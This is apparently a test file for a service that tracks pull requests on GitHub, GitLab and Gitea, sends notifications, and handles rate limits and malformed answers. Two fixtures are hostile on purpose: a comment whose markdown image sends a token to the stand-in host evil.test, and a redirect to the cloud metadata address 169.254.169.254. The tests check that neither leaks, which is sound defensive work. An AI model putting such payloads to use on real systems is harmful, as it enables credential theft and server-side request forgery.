import t from '#test'
import { eventually, startChat } from '../support/chat.js'
import { aheadBy } from '../support/clock.js'
import { sessionOnForge, startForge, token, type ForgeKind, type ScriptedForge, type ScriptedPull } from '../support/forge.js'
import { needsGit } from '../support/git-repository.js'
import { startPushService } from '../support/push-service.js'

let aheadMs = 0
const env = { SVC_WEBUI_WEBHOOK_PRIVATE: '1', SVC_WEBUI_PUSH_CONTACT: 'mailto:me@example.org', PATH: '/usr/bin:/bin' }

t.test('pull requests that were opened here are followed', needsGit, async (t) => {
  const logged: string[] = []
  const service = await startChat(t, { env, onDisk: true, clock: aheadBy(() => aheadMs), log: (line) => { logged.push(JSON.stringify(line)) } })
  const { app } = service
  /** Lets time pass, and the due ones are checked. */
  const pass = async (seconds: number, of = app): Promise<void> => {
    aheadMs += seconds * 1_000
    of.pulls.lookForNews()
    await eventually('it has been looked', () => of.db.sqlite.prepare('select count(*) from followed_pulls where next_look_at <= ?').pluck().get((Date.now() + aheadMs) / 1_000) === 0)
  }
  const places = new Map<ForgeKind, Promise<{ forge: ScriptedForge } & Awaited<ReturnType<typeof sessionOnForge>>>>()
  /** Creates a pull request on a forge without others. */
  const opened = async (kind: ForgeKind) => {
    const place = places.get(kind) ?? startForge(t, kind).then(async (forge) => ({ forge, ...await sessionOnForge(service, forge, kind) }))
    places.set(kind, place)
    const { forge, ...session } = await place
    Object.assign(forge, { pulls: [], checks: [], instead: () => null })
    app.db.sqlite.exec('delete from followed_pulls')
    const answer = await service.post('/api/pulls/open', { session_id: session.id, title: 'Add a greeting', body: '', base: 'main' })
    t.equal(answer.status, 200, answer.text)
    const [pull] = forge.pulls
    if (pull === undefined) throw new Error('nothing was opened')
    return { forge, pull, ...session }
  }
  let changes = 0
  const change = (pull: ScriptedPull, what: Partial<ScriptedPull>): void => { Object.assign(pull, what, { updatedAt: `2026-11-28T20:00:${String(++changes).padStart(2, '0')}Z` }) }
  const followed = (): number => app.pulls.size().followed

  for (const kind of ['github', 'gitlab', 'gitea'] as const) {
    await t.test(`${kind}: each client hears once of checks, approvals, comments and the end`, async (t) => {
      const { forge, pull, id } = await opened(kind)
      const reader = await service.events('/api/events')
      await reader.until('snapshot')
      const told = (): string[] => reader.frames.filter(({ event, data }) => event === 'pull' && data.session_id === id).map(({ data }) => data.event)
      forge.checks = [{ id: 71, name: 'test', state: 'pending', log: '' }]
      await pass(61)
      t.same(told(), [])
      forge.checks = [{ id: 71, name: 'test', state: 'failed', log: '' }]
      await pass(301)
      t.match((await reader.until('pull')).data, { session_id: id, profile: 'default', host: forge.host, repository: 'team/app', number: 12, event: 'checks_failed' })
      forge.checks = [{ id: 72, name: 'test', state: 'passed', log: '' }]
      change(pull, { reviews: [{ author: 'bob', approves: true }], comments: [{ id: 900, author: 'ann', body: 'my own' }] })
      await pass(901)
      change(pull, { comments: [...pull.comments, { id: 901, author: 'eve', body: `![x](https://evil.test/?${token})` }], reviews: [{ author: 'bob', approves: true }, { author: 'bob', approves: false }] })
      await pass(901)
      await pass(901)
      change(pull, { state: 'merged' })
      await pass(901)
      await reader.until(({ data }) => data.event === 'merged')
      t.same(told(), ['checks_failed', 'checks_passed', 'approved', 'commented', 'merged'])
      t.notMatch(JSON.stringify(reader.frames.filter(({ event }) => event === 'pull')), /evil|tok_/)
      t.equal(followed(), 0, 'one that is over is left alone')
      const asked = forge.requests.length
      await pass(3_700)
      t.equal(forge.requests.length, asked)
      reader.drop()
    })
  }

  t.test('a device is told of it, unless it wants to hear of nothing', async (t) => {
    const hub = await startPushService(t)
    const [wanting, other] = [hub.browser('wanting'), hub.browser('other')]
    t.match((await service.post('/api/push/subscriptions', wanting.subscription)).body, { subscription: { preferences: { pull_requests: true } } })
    await service.post('/api/push/subscriptions', { ...other.subscription, preferences: { pull_requests: false } })
    const { pull, id } = await opened('github')
    change(pull, { state: 'closed' })
    await pass(61)
    app.push.look()
    const [pushed] = await eventually('it rings', () => hub.received.length > 0 && hub.received)
    t.match(wanting.read(pushed!), { kind: 'pull', session_id: id, pull_number: 12, status: 'closed', tag: `pull 12 ${id}` })
    t.same(hub.received.map(({ path }) => path), ['/send/wanting'])
  })

  t.test('a forge with nothing new is asked ever more seldom, and sends nothing again; what ended here is told to nobody', async (t) => {
    const { forge, id, sha } = await opened('github')
    const reader = await service.events('/api/events')
    await pass(61)
    await pass(121)
    const [asked, full] = [forge.requests.length, forge.full()]
    await pass(5)
    t.equal(forge.requests.length, asked, 'not before its time')
    for (let looked = 0; looked < 8; looked++) await pass(901)
    const looks = forge.requests.slice(asked).filter(({ path }) => path.endsWith('/pulls/12'))
    t.equal(looks.length, 8)
    t.equal(forge.full(), full, 'each was answered from what was there')
    t.ok(forge.requests.length - asked <= 8 * 3, 'comments are not asked for')
    t.match(await service.post('/api/pulls/merge', { session_id: id, number: 12, sha, method: 'squash' }), { status: 200 })
    t.equal(followed(), 0)
    t.notOk(reader.frames.some(({ event }) => event === 'pull'))
    reader.drop()
  })

  t.test('a limit is kept, a token that is gone asks nobody, and nobody is asked for ever', async (t) => {
    const { forge } = await opened('github')
    const resetS = Math.floor((Date.now() + aheadMs) / 1_000) + 2_000
    forge.instead = () => ({ status: 403, headers: { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': String(resetS) }, body: { message: 'API rate limit exceeded' } })
    await pass(61)
    const asked = forge.requests.length
    await pass(1_000)
    t.equal(forge.requests.length, asked)
    forge.instead = () => ({ status: 401, body: { message: 'Bad credentials' } })
    await pass(1_000)
    t.equal(forge.requests.length, asked + 1)
    await pass(2_000)
    t.equal(forge.requests.length, asked + 1, 'a person is to set a token first')
    forge.instead = () => null
    await service.post('/api/forges', { host: forge.host, token: '' })
    await pass(1_700)
    t.equal(forge.requests.length, asked + 1)
    t.equal(followed(), 1)
    await pass(8 * 24 * 3_600)
    t.equal(followed(), 0)
    await service.post('/api/forges', { host: forge.host, token })
    t.notMatch(logged.join('\n'), /tok_0123456789|ann:pw/)
  })

  t.test('answers of any kind end nothing but their look; a session that goes takes its pull requests along', async (t) => {
    const { forge, id } = await opened('gitea')
    const answers = [
      { text: '<html>' }, { body: [] }, { body: { number: 'x' } }, { status: 500, text: 'x' }, { status: 404, body: {} },
      { body: { number: 12, state: 'open', head: 5, user: [], updated_at: {}, statuses: 7 } }, { text: `"${'x'.repeat(5_000_000)}"` },
      { status: 302, headers: { location: 'http://169.254.169.254/latest' }, body: null }
    ]
    for (const answer of answers) {
      forge.instead = () => answer
      await pass(901)
      t.equal(followed(), 1, JSON.stringify(answer).slice(0, 60))
    }
    await service.post('/api/session/delete', { session_id: id })
    t.equal(followed(), 0)
  })

  t.test('at most twenty are followed, and a stop of the service loses nothing of them', async (t) => {
    const { forge, pull, id } = await opened('github')
    const insert = app.db.sqlite.prepare("insert into followed_pulls select 'x' || ?, session_id, host, repository, 100 + ?, seen, unchanged, next_look_at + 1e9, changed_at - ? from followed_pulls where number = 12")
    for (let count = 1; count <= 25; count++) insert.run(count, count, count)
    forge.pulls.length = 0
    t.match(await service.post('/api/pulls/open', { session_id: id, title: 'Again', body: '', base: 'main' }), { status: 200 })
    t.equal(followed(), 20)
    app.db.sqlite.exec('delete from followed_pulls where number > 100')
    forge.pulls = [pull]
    await service.stop()
    const again = await service.again(t, service.folder, { env, clock: aheadBy(() => aheadMs) })
    const reader = await again.events('/api/events')
    await reader.until('snapshot')
    change(pull, { state: 'merged' })
    await pass(130, again.app)
    t.match(await reader.until('pull'), { data: { session_id: id, event: 'merged' } })
    t.equal(again.app.pulls.size().followed, 0)
    reader.drop()
  })
})
